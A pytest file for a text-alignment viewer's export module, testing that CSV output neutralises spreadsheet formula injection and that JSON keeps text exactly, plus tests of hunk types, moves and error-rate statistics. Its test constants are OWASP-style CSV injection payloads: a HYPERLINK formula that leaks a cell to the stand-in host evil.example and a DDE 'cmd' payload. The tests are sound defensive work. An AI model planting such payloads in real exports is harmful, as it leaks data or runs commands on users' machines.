"""Exports: CSV cells a spreadsheet would run as formulas are neutralised (OWASP), in every CSV
the product writes; JSON, JSONL and Parquet keep the exact text."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from viewer.align import align
from viewer.cli import main
from viewer.export import frame_csv, spreadsheet_safe, to_csv, to_json

# What OWASP's CSV injection page shows, as they would arrive in a document or an id.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


@pytest.mark.parametrize(("cell", "shown"), [
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    (SUM, "'" + SUM),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("a=b", "a=b"),            # only the first character matters
    (" =1", " =1"),            # a leading space is not a formula start in the guidance
    ("", ""),
    ("plain words", "plain words"),
])
def test_text_cells_starting_like_a_formula_get_a_quote(cell, shown):
    assert spreadsheet_safe(cell) == shown


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.5, None])
def test_numbers_and_missing_values_pass_unchanged(value):
    assert spreadsheet_safe(value) is value


def _csv_records(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_differences_csv_neutralises_document_text_and_json_keeps_it():
    original = "Keep this line. Then the end.\n"
    corrupted = f"Keep this line. {HYPERLINK} Then {CMD} the end. {SUM}\n"
    al = align(original, corrupted)
    records = _csv_records(to_csv(al))
    assert [(r["kind"], r["b_text"]) for r in records] == [
        ("inserted", "'" + HYPERLINK), ("inserted", "'" + CMD), ("inserted", "'" + SUM)]
    texts = [r["b_text"] for r in records]
    # the offsets stay numbers, and the JSON keeps every text exactly
    assert all(r["b_start"].isdigit() for r in records)
    hunks = json.loads(to_json(al, {}, {}))["hunks"]
    assert {h["b_text"] for h in hunks} == {t.removeprefix("'") for t in texts}
    for h in hunks:
        assert corrupted[h["b"][0]:h["b"][1]] == h["b_text"]


def test_frame_csv_neutralises_text_columns_only():
    frame = pd.DataFrame({"id": pd.array([SUM, "ok", None], dtype="string"),
                          "rate": [-0.25, 0.5, None], "n": pd.array([-1, 2, None], "Int64")})
    records = _csv_records(frame_csv(frame))
    assert [r["id"] for r in records] == ["'" + SUM, "ok", ""]
    assert [r["rate"] for r in records] == ["-0.25", "0.5", ""]
    assert [r["n"] for r in records] == ["-1", "2", ""]
    assert frame["id"][0] == SUM  # the caller's frame is untouched


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".parquet"])
def test_corpus_summary_ids_neutralised_in_csv_only(tmp_path, capsys, ext):
    ids = [HYPERLINK, CMD, SUM, "-1"]
    source = tmp_path / "c.jsonl"
    source.write_text("".join(json.dumps({"id": i, "original": "a b c", "corrupted": "a x c"})
                              + "\n" for i in ids), encoding="utf-8")
    out = tmp_path / f"rows{ext}"
    assert main(["corpus", str(source), "--out", str(out), "--workers", "1"]) == 0
    if ext == ".csv":
        records = _csv_records(out.read_text(encoding="utf-8"))
        assert [r["id"] for r in records] == ["'" + i for i in ids]
        assert [r["pair"] for r in records] == ["0", "1", "2", "3"]
        assert all(float(r["corruption_rate"]) > 0 for r in records)
    elif ext == ".jsonl":
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert [r["id"] for r in rows] == ids
    else:
        assert list(pd.read_parquet(out)["id"]) == ids


# --- what happened, beside where: type, sources, moves, measures --------------------------------

MOVED = "Nobody in the capital expected the vote to pass at all today."


def test_json_hunks_say_their_type_and_where_copied_or_moved_text_came_from():
    original = "Officials in the Kremlin said so. The army will help."
    al = align(original, "Officials in the Kremlin said so. The army the Kremlin will help.")
    (copy,) = json.loads(to_json(al, {}, {}))["hunks"]
    # the mention copied from the first sentence: its one source is that mention's span
    assert (copy["kind"], copy["type"], copy["b_text"]) == ("inserted", "copy", "the Kremlin")
    assert copy["sources"] == [[13, 24]] and original[13:24] == "the Kremlin"
    assert "moved_to" not in copy and "moved_from" not in copy

    al = align(f"{MOVED} The army will help. The navy stays home.",
               f"The army will help. The navy stays home. {MOVED}")
    hunks = json.loads(to_json(al, {}, {}))["hunks"]
    # which of the two sentences the aligner keeps in place is its choice; the other moved
    gone, back = sorted(hunks, key=lambda h: h["kind"] != "missing")
    assert (gone["kind"], gone["type"], back["kind"], back["type"]) == (
        "missing", "move", "inserted", "move")
    assert gone["a_text"].strip(" .") == back["b_text"].strip(" .")
    assert gone["moved_to"] == back["id"] and back["moved_from"] == gone["id"]
    assert gone["similarity"] == back["similarity"] >= 0.75  # the same text, edges aside


def test_json_stats_carry_wer_cer_and_counts_by_type():
    # one word of four replaced by a misspelling: WER 1/4; CER 1 changed letter of 13
    al = align("the cat sat down", "the cat sat dawn")
    stats = json.loads(to_json(al, {}, {}))["stats"]
    assert stats["wer"] == 0.25 and stats["cer"] == round(1 / 13, 6)
    assert stats["hunks_by_type"]["spelling"] == 1
    assert sum(stats["hunks_by_type"].values()) == stats["hunks_total"] == 1
    assert stats["copy_share"] == 0.0 and stats["move_share"] == 0.0


def test_differences_csv_has_a_type_column():
    records = _csv_records(to_csv(align("The FUND grew, fast.", "The fund grew fast.")))
    assert [(r["kind"], r["type"], r["a_text"]) for r in records] == [
        ("substituted", "case", "FUND"), ("missing", "punctuation", ",")]


def test_cli_confusions_in_json_and_report(tmp_path, capsys):
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text("the cat and the dog and the bird", encoding="utf-8")
    b.write_text("a cat and a dog and a bird", encoding="utf-8")
    assert main(["align", str(a), str(b), "--json", "--confusions"]) == 0
    table = json.loads(capsys.readouterr().out)["confusions"]
    assert table["substitutions"][0] == ["the", "a", 3]
    assert main(["align", str(a), str(b), "--confusions", "--color", "never"]) == 0
    out = capsys.readouterr().out
    assert "the→a ×3" in out and "WER 37.5%" in out


def test_json_bytes_are_the_same_json_as_the_standard_library_gives():
    # orjson encodes the command line's output; json is the reference (and the fallback)
    from viewer.example import EXAMPLE_CORRUPTED, EXAMPLE_ORIGINAL
    from viewer.export import to_dict, to_json_bytes

    al = align(EXAMPLE_ORIGINAL.read_text(encoding="utf-8"),
               EXAMPLE_CORRUPTED.read_text(encoding="utf-8"))
    sides = {"path": "a.txt", "encoding": "utf-8"}, {"path": "b.txt", "encoding": "utf-8"}
    reference = json.dumps(to_dict(al, *sides, confusions=True), ensure_ascii=False)
    assert json.loads(to_json_bytes(al, *sides, confusions=True)) == json.loads(reference)
    assert json.loads(to_json_bytes(al, *sides, indent=4, confusions=True)) == \
        json.loads(reference)  # indent 4: json itself


def test_lone_surrogates_fall_back_to_the_standard_library():
    # a str from the Python API may hold what orjson refuses; the output still comes
    al = align("a \ud800 b", "a b")
    assert json.loads(to_json(al, {}, {}))["hunks"][0]["a_text"] == "\ud800"
